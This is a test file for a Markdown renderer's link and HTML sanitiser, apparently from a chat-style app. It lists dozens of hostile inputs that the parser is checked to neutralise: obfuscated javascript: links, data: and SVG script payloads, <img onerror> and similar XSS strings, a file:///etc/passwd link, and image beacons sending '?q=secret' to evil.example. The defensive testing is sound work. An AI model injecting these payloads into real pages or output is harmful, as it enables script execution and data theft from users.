import { describe, expect, it } from 'vitest';
import { linkWarnings } from '../../../../src/ui/markdown/link-warnings.ts';
import { parseMarkdown } from '../../../../src/ui/markdown/markdown-stream.ts';
import { imageHost, safeLink, textSaysHost } from '../../../../src/ui/markdown/safe-link.ts';

const HOSTILE = [
  '[a](javascript:alert(1))',
  '[a](JaVaScRiPt:alert(1))',
  '[a](javascript&colon;alert(1))',
  '[a](&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1))',
  '[a](&#x6A;avascript:alert(1))',
  '[a](java&Tab;script:alert(1))',
  '[a](java&NewLine;script:alert(1))',
  '[a](\u0001javascript:alert(1))',
  '[a](<java\tscript:alert(1)>)',
  '[a](vbscript:msgbox(1))',
  '[a](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '[a](DATA:text/html,<script>alert(1)</script>)',
  '[a](file:///etc/passwd)',
  '[a](blob:https://example.org/1)',
  '[a](filesystem:https://example.org/x)',
  '[a](intent://x#Intent;scheme=javascript;end)',
  '[a](//evil.example/x)',
  '[a](/settings)',
  '[a](#/settings/answers)',
  '[a](..\\..\\x)',
  '[a](view-source:https://example.org)',
  '[a](https:javascript:alert(1))',
  '<javascript:alert(1)>',
  '<data:text/html,x>',
  '[a][b]\n\n[b]: javascript:alert(1)',
  '[b]\n\n[b]: data:text/html,x',
  '![a][b]\n\n[b]: https://evil.example/pixel.png?q=secret',
  '![a](https://evil.example/pixel.png?q=secret)',
  '![a](javascript:alert(1))',
  '![a](data:image/svg+xml,<svg onload=alert(1)>)',
  '![a][1]\n\n[1]: https://evil.example/1.png',
  '[![a](https://evil.example/i.png)](javascript:alert(1))',
  '[![a](https://evil.example/i.png)](https://evil.example/)',
  '[[[[a](javascript:x)](javascript:y)](javascript:z)',
  '[a](https://good.example/) [b](javascript:alert`1`)',
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg/onload=alert(1)>',
  '<math><mtext><img src=x onerror=alert(1)></mtext></math>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<a href="javascript:alert(1)">x</a>',
  '<form action=https://evil.example><input name=q></form>',
  '<style>@import "https://evil.example/x.css";</style>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<?xml version="1.0"?><x/>',
  '<details open ontoggle=alert(1)>',
  '`<img src=x onerror=alert(1)>`',
  '```html\n<script>alert(1)</script>\n```',
  '```"><img src=x onerror=alert(1)>\nx\n```',
  '| <img src=x onerror=alert(1)> |\n|---|\n| [x](javascript:alert(1)) |',
  '[^1]\n\n[^1]: [a](javascript:alert(1)) ![x](https://evil.example/y.png)',
  'a<br><sup><img src=x onerror=alert(1)></sup>',
  '<sup>1</sup>',
  '# <a name="location">x</a>',
  '- [x] <input autofocus onfocus=alert(1)>',
  'www.evil.example/<script>alert(1)</script>',
  'mailto:someone@example.org?body=x javascript:alert(1)',
  '\u202Egnp.exe [a](https://example.org/\u202Efdp.exe)',
];

const ALLOWED_KINDS = new Set([
  ...['paragraph', 'heading', 'list', 'quote', 'code', 'table', 'rule', 'cut'],
  ...['text', 'strong', 'emphasis', 'deleted', 'superscript', 'break', 'link', 'image', 'citation'],
]);

/** Every object with a `kind`, however deep. */
function nodesOf(value: unknown): Record<string, unknown>[] {
  if (typeof value !== 'object' || value === null) return [];
  const here = 'kind' in value ? [value as Record<string, unknown>] : [];
  return [...here, ...Object.values(value).flatMap(nodesOf)];
}

describe('hostile Markdown', () => {
  it.each(HOSTILE)('gives nothing that could run, load or lead into the app: %j', (text) => {
    for (const source of [text, `> ${text.replaceAll('\n', '\n> ')}`, `- ${text.replaceAll('\n', '\n  ')}`]) {
      const nodes = nodesOf(parseMarkdown(source));
      expect(nodes.length).toBeGreaterThan(0);
      for (const node of nodes) {
        expect(ALLOWED_KINDS).toContain(node['kind']);
        expect(Object.keys(node)).not.toContain('html');
        if (node['kind'] === 'link') {
          const url = new URL(String(node['href']));
          expect(['http:', 'https:', 'mailto:']).toContain(url.protocol);
          expect(node['host']).not.toBe('');
        } else expect(Object.keys(node)).not.toContain('href');
      }
    }
  });

  it('shows raw HTML as the characters it is made of', () => {
    expect(parseMarkdown('<b>x</b>\n\n<div onclick="y">\nz\n</div>')).toEqual([
      { kind: 'paragraph', inlines: [{ kind: 'text', text: '<b>x</b>' }] },
      { kind: 'paragraph', inlines: [{ kind: 'text', text: '<div onclick="y">\nz\n</div>' }] },
    ]);
  });

  it('names the host of an image and keeps it from being loaded', () => {
    expect(parseMarkdown('![chart](https://evil.example:8443/p.png?q=secret)')).toEqual([
      {
        kind: 'paragraph',
        inlines: [
          {
            kind: 'image',
            alt: 'chart',
            host: 'evil.example:8443',
            source: 'https://evil.example:8443/p.png?q=secret',
          },
        ],
      },
    ]);
    expect(imageHost('data:image/png;base64,AA')).toBe('data');
    expect(imageHost('pixel.png')).toBe('no address');
  });

  it('removes characters that hide or reorder text', () => {
    const hidden = 'a\u{E0041}\u{E0042}b\u202Ec\u2066d\u200Be\u200D\u200D\u200Cf';
    expect(parseMarkdown(hidden)).toEqual([{ kind: 'paragraph', inlines: [{ kind: 'text', text: 'abcdef' }] }]);
    expect(parseMarkdown('👩‍💻')).toEqual([{ kind: 'paragraph', inlines: [{ kind: 'text', text: '👩‍💻' }] }]);
  });
});

describe('links', () => {
  it('are normalised, with the host in ASCII', () => {
    expect(safeLink('HTTPS://Exämple.org/ä')).toEqual({
      href: 'https://xn--exmple-cua.org/%C3%A4',
      host: 'xn--exmple-cua.org',
    });
    expect(safeLink('mailto:a@b.org?subject=x')).toEqual({ href: 'mailto:a@b.org?subject=x', host: 'a@b.org' });
    expect(safeLink('https://')).toBeUndefined();
  });

  it('repeat their host unless the text already says it', () => {
    const link = { href: 'https://evil.example/', host: 'evil.example' };
    expect(textSaysHost('evil.example', link)).toBe(true);
    expect(textSaysHost('https://evil.example/x', link)).toBe(true);
    expect(textSaysHost('https://bank.example', link)).toBe(false);
    expect(textSaysHost('bank.example', link)).toBe(false);
    expect(textSaysHost('evil.example bank.example', link)).toBe(false);
  });

  it('warn about long queries, own words, imitated names, user names and missing encryption', () => {
    const context = ['My therapist is Dr Weber in Freiburg'];
    expect(linkWarnings('https://example.org/page', context)).toEqual([]);
    expect(linkWarnings(`https://example.org/?q=${'x'.repeat(80)}`, context)).toEqual(['carries-much']);
    expect(linkWarnings('https://example.org/?q=therapist+is+dr+weber', context)).toEqual(['carries-your-text']);
    expect(linkWarnings('https://example.org/therapist%20is%20dr%20weber', context)).toEqual(['carries-your-text']);
    expect(linkWarnings('https://example.org/one-two-three', ['See [x](https://example.org/one-two-three).'])).toEqual(
      [],
    );
    expect(linkWarnings('https://xn--pple-43d.com/', context)).toEqual(['look-alike']);
    expect(linkWarnings('https://bank.example@evil.example/', context)).toEqual(['hidden-name']);
    expect(linkWarnings('http://example.org/', context)).toEqual(['unencrypted']);
    expect(linkWarnings('https://example.org/%E0%A4%A', context)).toEqual([]);
  });
});
